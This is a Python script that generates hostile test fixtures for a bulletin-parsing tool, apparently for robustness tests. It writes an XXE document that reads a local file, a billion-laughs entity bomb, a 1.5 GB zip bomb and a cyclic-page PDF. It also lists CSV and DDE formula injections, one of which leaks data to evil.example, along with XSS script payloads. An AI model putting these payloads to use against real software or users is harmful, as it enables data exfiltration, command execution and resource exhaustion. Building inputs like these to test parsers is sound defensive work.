"""Make the hostile inputs of tests/test_hostile.py: files scraped from the wild that try to
exhaust memory, read local files, loop a PDF engine or smuggle formulas and scripts into the
outputs. Generated, not committed (the zip bomb alone would be 1.5 GB once inflated).

    python tests/hostile/make_hostile.py OUTDIR
"""

from __future__ import annotations

import shutil
import sys
import zipfile
from pathlib import Path

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "bulletins"
GOOD_DOCX = FIXTURES / "docx" / "wengyuan-2022-06.docx"
SECRET = "LOCAL-SECRET-7f3a9c"  # written to a local file that an XXE tries to read

# Unit names that are formulas to a spreadsheet or markup to a browser.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>局",
    "<script>alert('x')</script>镇",
]


def _rewrite_member(src: Path, dst: Path, member: str, data: bytes) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, data if info.filename == member else zin.read(info.filename))


def _document_xml() -> str:
    with zipfile.ZipFile(GOOD_DOCX) as zf:
        return zf.read("word/document.xml").decode("utf-8")


def _with_doctype(xml: str, doctype: str, first_text: str, replacement: str) -> str:
    head, rest = xml.split("?>", 1)
    assert first_text in rest, first_text
    return head + "?>" + doctype + rest.replace(first_text, replacement, 1)


def xxe_docx(out: Path, secret_file: Path) -> Path:
    """An external entity pointing at a local file, used as a unit name."""
    xml = _with_doctype(
        _document_xml(), f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret_file}">]>', "<w:t>公安局</w:t>", "<w:t>&xxe;</w:t>"
    )
    path = out / "xxe.docx"
    _rewrite_member(GOOD_DOCX, path, "word/document.xml", xml.encode("utf-8"))
    return path


def billion_laughs_docx(out: Path) -> Path:
    """Ten levels of entities, each ten copies of the one below: 10^9 copies of "lol"."""
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = _with_doctype(_document_xml(), f"<!DOCTYPE w:document [{entities}]>", "<w:t>公安局</w:t>", "<w:t>&l9;</w:t>")
    path = out / "billion-laughs.docx"
    _rewrite_member(GOOD_DOCX, path, "word/document.xml", xml.encode("utf-8"))
    return path


def zip_bomb_docx(out: Path, inflated_mb: int = 1536) -> Path:
    """A DOCX of ~1.5 MB whose word/document.xml inflates to 1.5 GB (one XML text node)."""
    path = out / "zip-bomb.docx"
    with zipfile.ZipFile(GOOD_DOCX) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for info in zin.infolist():
            if info.filename != "word/document.xml":
                zout.writestr(info, zin.read(info.filename))
        with zout.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8"?><w:document><w:body><w:p><w:r><w:t>')
            block = b" " * (1 << 20)
            for _ in range(inflated_mb):
                fh.write(block)
            fh.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


def cyclic_pages_pdf(out: Path) -> Path:
    """A page tree whose /Kids point back at their own parent: a naive walk never ends."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    ]
    body = b"%PDF-1.4\n"
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    body += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    body += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    path = out / "cyclic-pages.pdf"
    path.write_bytes(body)
    return path


def huge_table_html(out: Path, rows: int = 20_000, cols: int = 10) -> Path:
    """One table of 200,000 cells (the default cell limit is 100,000)."""
    row = "<tr>" + "".join(f"<td>{c}</td>" for c in range(cols)) + "</tr>"
    page = "<html><body><p>某县12345热线工单明细</p><table>" + row * rows + "</table></body></html>"
    path = out / "huge-table.html"
    path.write_text(page, encoding="utf-8")
    return path


def injection_text(out: Path) -> Path:
    """A plain bulletin table whose unit names are formulas and markup."""
    lines = ["某县12345热线2024年5月工单办理情况", "", "单位名称\t受理件数\t办结件数\t办结率"]
    for i, name in enumerate(INJECTIONS, start=1):
        lines.append(f"{name}\t{10 * i}\t{10 * i}\t100%")
    path = out / "injection.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def build(out: Path) -> dict[str, Path]:
    """Write every hostile case (and the local secret an XXE tries to read) into out."""
    out.mkdir(parents=True, exist_ok=True)
    secret_file = out.parent / "secret.txt"  # outside the input folder: never an input itself
    secret_file.write_text(SECRET, encoding="utf-8")
    cases = {
        "xxe": xxe_docx(out, secret_file),
        "billion_laughs": billion_laughs_docx(out),
        "zip_bomb": zip_bomb_docx(out),
        "cyclic_pages": cyclic_pages_pdf(out),
        "huge_table": huge_table_html(out),
        "injection": injection_text(out),
    }
    shutil.copy(GOOD_DOCX, out / "good.docx")
    cases["good"] = out / "good.docx"
    return cases


if __name__ == "__main__":
    for name, path in build(Path(sys.argv[1])).items():
        print(f"{name:15} {path} ({path.stat().st_size:,} bytes)")
